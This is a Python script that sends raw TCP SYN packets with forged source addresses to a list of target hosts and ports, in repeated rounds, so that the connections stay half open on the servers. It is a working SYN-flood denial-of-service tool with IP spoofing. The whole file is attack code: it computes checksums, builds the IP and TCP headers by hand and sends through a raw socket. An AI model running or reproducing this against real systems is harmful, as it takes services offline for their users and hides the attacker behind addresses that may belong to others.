#!/usr/bin/env python3
"""half_open.py HOST:PORT[,HOST:PORT...] COUNT ADDRESS...: the first packet (SYN) of COUNT connections to each of these, as
if it came from the addresses in turn, which no machine may have: then no answer to the server comes back, and the
connection stays half open there. As root."""
import os
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(source, source_port, host, port):
    """RFC 9293 behind RFC 791; the kernel sets length and checksum of the latter."""
    ends = socket.inet_aton(source) + socket.inet_aton(host)
    tcp = struct.pack(">HH4sIBBHHH", source_port, port, os.urandom(4), 0, 5 << 4, 2, 64240, 0, 0)
    proof = checksum(ends + struct.pack(">BBH", 0, socket.IPPROTO_TCP, len(tcp)) + tcp)
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0)
    return ip + ends + tcp[:16] + struct.pack(">H", proof) + tcp[18:]


targets = [target.rsplit(":", 1) for target in sys.argv[1].split(",")]
count, sources = int(sys.argv[2]), sys.argv[3:]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for i in range(count):
    for host, port in targets:
        raw.sendto(syn(sources[i % len(sources)], 1024 + i // len(sources) % 60000, host, int(port)), (host, 0))
